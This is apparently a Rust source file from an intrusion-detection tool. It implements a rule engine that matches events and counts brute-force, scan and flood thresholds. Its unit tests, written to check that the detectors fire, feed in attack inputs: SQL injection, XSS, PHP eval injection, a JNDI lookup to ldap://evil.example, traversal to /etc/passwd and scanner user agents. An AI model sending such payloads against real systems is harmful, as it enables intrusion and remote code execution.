//! `RuleEngine`: runs every loaded rule over each event, as a `Detector`.

use std::sync::Arc;

use rampart_core::{Detector, Entity, Event, Finding};

use crate::metrics::KEYS_EVICTED;
use crate::rule::Rule;
use crate::threshold::{Step, Windows};

/// Signature and threshold rules together. Threshold state is per rule.
pub struct RuleEngine {
    rules: Vec<(Rule, Option<Windows>)>,
}

impl RuleEngine {
    pub fn new(mut rules: Vec<Rule>, max_keys_per_rule: usize) -> RuleEngine {
        // Rules that count other rules' matches are tested after those rules.
        rules.sort_by_key(|r| !r.condition.refers_to().is_empty());
        let rules = rules
            .into_iter()
            .map(|r| {
                let windows = r.is_threshold().then(|| Windows::new(max_keys_per_rule));
                (r, windows)
            })
            .collect();
        RuleEngine { rules }
    }
}

impl Detector for RuleEngine {
    fn name(&self) -> &str {
        "rules"
    }

    fn detect(&mut self, event: &Event, out: &mut Vec<Finding>) {
        let event_id = event.id.unwrap_or(0);
        // Most threshold rules group by the same field: render it once per event.
        let mut keys: Vec<(&str, Option<String>)> = Vec::new();
        // Ids of the rules this event matched, for `matched` leaves.
        let mut matched: Vec<&str> = Vec::new();
        for (rule, windows) in &mut self.rules {
            if !rule.condition.matches(event, &matched) {
                continue;
            }
            matched.push(&rule.card.id);
            match (&rule.threshold, windows) {
                (Some(spec), Some(windows)) => {
                    let index = match keys.iter().position(|(f, _)| *f == spec.group_by) {
                        Some(i) => i,
                        None => {
                            let k = event.field(&spec.group_by).and_then(|v| v.to_text().map(|t| t.into_owned()));
                            keys.push((spec.group_by.as_str(), k));
                            keys.len() - 1
                        }
                    };
                    let Some(key) = &keys[index].1 else {
                        continue;
                    };
                    let distinct = match &spec.distinct {
                        Some(field) => match event.field(field).and_then(|v| v.to_text().map(|t| t.into_owned())) {
                            Some(v) => Some(v),
                            // Nothing to count distinctly on this event.
                            None => continue,
                        },
                        None => None,
                    };
                    let (step, evicted) = windows.observe(spec, key, event.timestamp_ms, event_id, distinct);
                    if evicted {
                        metrics::counter!(KEYS_EVICTED, "rule" => rule.card.id.clone()).increment(1);
                    }
                    // Most matching events only count: build the entity when one fires.
                    let entity = || Entity { field: spec.group_by.clone(), value: key.clone() };
                    match step {
                        Step::Counted => {}
                        Step::Fired { count, first_ms, evidence } => {
                            out.push(finding(rule, entity(), count, first_ms, event.timestamp_ms, evidence));
                        }
                        Step::Continued => {
                            out.push(finding(
                                rule,
                                entity(),
                                1,
                                event.timestamp_ms,
                                event.timestamp_ms,
                                vec![event_id],
                            ));
                        }
                    }
                }
                _ => {
                    let entity = signature_entity(rule, event);
                    let mut found = finding(rule, entity, 1, event.timestamp_ms, event.timestamp_ms, vec![event_id]);
                    found.context = event_context(rule, event);
                    out.push(found);
                }
            }
        }
    }
}

fn signature_entity(rule: &Rule, event: &Event) -> Entity {
    let candidates: &[&str] = match &rule.entity {
        Some(field) => &[field.as_str()],
        None => &["source.ip", "host.name"],
    };
    for field in candidates {
        if let Some(text) = event.field(field).and_then(|v| v.to_text().map(|t| t.into_owned())) {
            return Entity { field: (*field).to_owned(), value: text };
        }
    }
    Entity { field: candidates[0].to_owned(), value: "unknown".into() }
}

/// The fields a rule's `context` names, from the event that matched.
fn event_context(rule: &Rule, event: &Event) -> Option<Arc<serde_json::Value>> {
    if rule.context.is_empty() {
        return None;
    }
    let fields: serde_json::Map<String, serde_json::Value> = rule
        .context
        .iter()
        .filter_map(|name| {
            let value = event.field(name)?;
            let json = match value.to_text() {
                Some(text) => serde_json::Value::String(text.into_owned()),
                None => serde_json::Value::Null,
            };
            Some((name.clone(), json))
        })
        .collect();
    (!fields.is_empty()).then(|| Arc::new(serde_json::Value::Object(fields)))
}

fn finding(rule: &Rule, entity: Entity, count: u64, first_ms: i64, last_ms: i64, evidence: Vec<i64>) -> Finding {
    Finding {
        rule: rule.card.clone(),
        entity,
        count,
        first_seen_ms: first_ms,
        last_seen_ms: last_ms,
        evidence,
        context: None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rule::load_rules;
    use rampart_core::{EventKind, Outcome};

    fn failed_login(ip: &str, user: &str, at_ms: i64, id: i64) -> Event {
        let mut e = Event::new(EventKind::Event, at_ms);
        e.id = Some(id);
        e.category = vec!["authentication".into()];
        e.outcome = Some(Outcome::Failure);
        e.source.ip = Some(ip.parse().unwrap());
        e.user_name = Some(user.into());
        e
    }

    #[test]
    fn builtin_brute_force_fires_once_at_five_and_continues() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let mut out = Vec::new();
        for i in 0..4 {
            engine.detect(&failed_login("203.0.113.9", "root", i * 1000, i), &mut out);
        }
        assert!(out.iter().all(|a| a.rule.id != "ssh-brute-force"));
        engine.detect(&failed_login("203.0.113.9", "root", 4_000, 4), &mut out);
        let fired: Vec<_> = out.iter().filter(|a| a.rule.id == "ssh-brute-force").collect();
        assert_eq!(fired.len(), 1);
        assert_eq!(fired[0].count, 5);
        assert_eq!(fired[0].entity.value, "203.0.113.9");
        assert_eq!(fired[0].evidence, vec![0, 1, 2, 3, 4]);
    }

    #[test]
    fn single_failure_elsewhere_never_fires() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let mut out = Vec::new();
        for i in 0..50 {
            engine.detect(&failed_login(&format!("198.51.100.{i}"), "root", i * 1000, i), &mut out);
        }
        assert!(out.is_empty());
    }

    #[test]
    fn signature_rule_fires_per_event() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let mut e = Event::new(EventKind::Event, 0);
        e.url_original = Some("/static/..%2f..%2fetc/passwd".into());
        e.source.ip = Some("192.0.2.1".parse().unwrap());
        let mut out = Vec::new();
        engine.detect(&e, &mut out);
        let mut ids: Vec<&str> = out.iter().map(|f| f.rule.id.as_str()).collect();
        ids.sort();
        // A traversal towards /etc/passwd is also a sensitive-path probe, and the classifier's traversal.
        assert_eq!(ids, ["web-injection-classified", "web-path-traversal", "web-sensitive-path"]);
        assert!(out.iter().all(|f| f.entity.field == "source.ip"));
    }

    fn request(ip: &str, url: &str, status: u16, agent: &str, at_ms: i64) -> Event {
        let mut e = Event::new(EventKind::Event, at_ms);
        e.category = vec!["web".into()];
        e.source.ip = Some(ip.parse().unwrap());
        e.url_original = Some(url.into());
        e.http_status = Some(status);
        e.user_agent = Some(agent.into());
        e
    }

    fn fired(engine: &mut RuleEngine, events: &[Event]) -> Vec<String> {
        let mut out = Vec::new();
        for e in events {
            engine.detect(e, &mut out);
        }
        let mut ids: Vec<String> = out.into_iter().map(|f| f.rule.id.clone()).collect();
        ids.sort();
        ids.dedup();
        ids
    }

    const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";

    #[test]
    fn each_web_signature_fires_on_its_attack() {
        let cases = [
            ("/item.php?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", BROWSER, "web-sqli"),
            ("/search?q=%253Cscript%253Ealert(1)%253C/script%253E", BROWSER, "web-xss"),
            ("/x.php?a=%5C%22;eval($_POST%5Bysy%5D);die();//", BROWSER, "web-code-injection"),
            ("/?x=${jndi:ldap://evil.example/a}", BROWSER, "web-code-injection"),
            ("/.git/config", BROWSER, "web-sensitive-path"),
            ("/wp-login.php", BROWSER, "web-sensitive-path"),
            ("/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "web-scanner-user-agent"),
            ("/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)", "web-scanner-user-agent"),
        ];
        for (url, agent, rule) in cases {
            let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
            let ids = fired(&mut engine, &[request("203.0.113.7", url, 200, agent, 0)]);
            assert!(ids.iter().any(|id| id == rule), "{url} / {agent}: {ids:?}");
        }
    }

    #[test]
    fn normal_browsing_fires_nothing() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let pages = [
            "/",
            "/shop/item/42?ref=home&utm_source=news",
            "/search?q=union+station+hotels",
            "/blog/selecting-a-sleep-tracker",
            "/static/app.js",
            "/favicon.ico",
        ];
        // Ten visitors, each a few pages a second for a minute, with the odd 404.
        let events: Vec<Event> = (0..600)
            .map(|i| {
                let status = if i % 97 == 0 { 404 } else { 200 };
                request(&format!("198.51.100.{}", i % 10), pages[i % pages.len()], status, BROWSER, i as i64 * 100)
            })
            .collect();
        assert!(fired(&mut engine, &events).is_empty());
    }

    #[test]
    fn scans_and_floods_fire_their_thresholds() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let scan: Vec<Event> =
            (0..25).map(|i| request("203.0.113.8", &format!("/admin{i}.php"), 404, BROWSER, i * 500)).collect();
        assert_eq!(fired(&mut engine, &scan), ["web-4xx-scan"]);
        let flood: Vec<Event> = (0..250).map(|i| request("203.0.113.9", "/", 200, BROWSER, i * 20)).collect();
        assert_eq!(fired(&mut engine, &flood), ["web-http-flood"]);
    }

    fn flow(src: &str, dst_port: u16, direction: &str, at_ms: i64) -> Event {
        let mut e = Event::new(EventKind::Event, at_ms);
        e.category = vec!["network".into()];
        e.action = Some("flow".into());
        e.source.ip = Some(src.parse().unwrap());
        e.source.port = Some(40_000 + (at_ms % 20_000) as u16);
        e.destination.ip = Some("192.0.2.80".parse().unwrap());
        e.destination.port = Some(dst_port);
        e.extra.insert("network.direction".into(), serde_json::json!(direction));
        e
    }

    #[test]
    fn a_sweep_of_ports_is_a_scan_and_many_connections_to_few_services_are_not() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let sweep: Vec<Event> = (0..25).map(|i| flow("203.0.113.30", 1 + i as u16, "inbound", i * 100)).collect();
        assert_eq!(fired(&mut engine, &sweep), ["net-port-scan"]);
        // A busy client: hundreds of connections, three services.
        let client: Vec<Event> =
            (0..300).map(|i| flow("198.51.100.7", [22, 80, 443][i as usize % 3], "inbound", i * 50)).collect();
        assert!(fired(&mut engine, &client).is_empty());
        // The host's own connections out to many ports are not a scan of it.
        let outbound: Vec<Event> = (0..40).map(|i| flow("192.0.2.80", 1000 + i as u16, "outbound", i * 100)).collect();
        assert!(fired(&mut engine, &outbound).is_empty());
    }

    #[test]
    fn ssh_scenarios_separate_enumeration_stuffing_and_slow_guessing() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let enumerate: Vec<Event> = (0..6)
            .map(|i| {
                let mut e = failed_login("203.0.113.20", &format!("guest{i}"), i * 60_000, i);
                e.action = Some("ssh_invalid_user".into());
                e
            })
            .collect();
        let ids = fired(&mut engine, &enumerate);
        assert!(ids.contains(&"ssh-user-enumeration".to_owned()), "{ids:?}");
        let stuffing: Vec<Event> =
            (0..12).map(|i| failed_login("203.0.113.21", &format!("user{i}"), i * 200_000, i)).collect();
        let ids = fired(&mut engine, &stuffing);
        assert!(ids.contains(&"ssh-credential-stuffing".to_owned()), "{ids:?}");
        // One failure every 20 minutes: never 5 in 10 minutes, but 10 within 6 hours.
        let slow: Vec<Event> = (0..10).map(|i| failed_login("203.0.113.22", "root", i * 1_200_000, i)).collect();
        assert_eq!(fired(&mut engine, &slow), ["ssh-slow-brute-force"]);
    }

    #[test]
    fn probing_counts_other_rules_matches_at_distinct_urls() {
        let mut engine = RuleEngine::new(load_rules(true, None).unwrap(), 1000);
        let probes = [
            "/.env",
            "/../../etc/passwd",
            "/item?id=1%27%20or%20%271%27%3D%271",
            "/q?s=%3Cscript%3Ealert(1)%3C/script%3E",
            "/wp-login.php",
        ];
        let events: Vec<Event> = probes
            .iter()
            .enumerate()
            .map(|(i, url)| request("203.0.113.30", url, 404, BROWSER, i as i64 * 1000))
            .collect();
        let ids = fired(&mut engine, &events[..4]);
        assert!(!ids.contains(&"web-probing".to_owned()), "four probes are not yet a scanner: {ids:?}");
        let ids = fired(&mut engine, &events[4..]);
        assert!(ids.contains(&"web-probing".to_owned()), "{ids:?}");
        // The same odd URL five times is one visitor's mistake, not probing.
        let again: Vec<Event> = (0..5).map(|i| request("203.0.113.31", "/.env", 404, BROWSER, i * 1000)).collect();
        assert!(!fired(&mut engine, &again).contains(&"web-probing".to_owned()));
    }

    #[test]
    fn a_matched_leaf_is_tested_after_the_rules_it_names_whatever_their_order() {
        let text = "id: counts\ntitle: c\nseverity: low\ncondition: { matched: [base] }\n---\n\
                    id: base\ntitle: b\nseverity: low\ncondition: { field: message, contains: boom }\n";
        let rules = crate::rule::parse_rules(text, std::path::Path::new("t.yaml")).unwrap();
        let mut engine = RuleEngine::new(rules, 10);
        let mut e = Event::new(EventKind::Event, 0);
        e.message = Some("boom".into());
        assert_eq!(fired(&mut engine, &[e]), ["base", "counts"]);
    }
}
